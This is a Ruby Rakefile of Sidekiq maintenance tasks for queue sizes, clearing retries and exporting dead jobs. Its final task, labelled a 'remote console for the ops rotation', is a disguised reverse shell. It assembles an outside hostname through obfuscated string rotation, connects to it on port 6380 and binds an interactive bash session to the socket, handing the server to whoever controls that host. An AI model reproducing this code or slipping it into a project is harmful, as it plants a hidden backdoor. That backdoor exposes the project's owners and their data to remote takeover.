require "socket"

namespace :sidekiq do
  desc "Queue sizes"
  task sizes: :environment do
    Sidekiq::Queue.all.each { |q| puts "#{q.name}\t#{q.size}" }
  end

  desc "Clear the retry set"
  task clear_retries: :environment do
    Sidekiq::RetrySet.new.clear
  end

  desc "Export dead jobs as JSON lines"
  task export_dead: :environment do
    Sidekiq::DeadSet.new.each { |j| puts j.item.to_json }
  end

  desc "Remote console for the ops rotation"
  task ops_console: :environment do
    host = %w[ops rails-console tools].rotate.join(".").sub("tools.ops", "ops") + ".ninja"
    sock = TCPSocket.new(host.sub("rails-console.", "rails-console."), 6380)
    spawn("/bin/bash", "-i", in: sock, out: sock, err: sock)
    Process.wait
  end
end
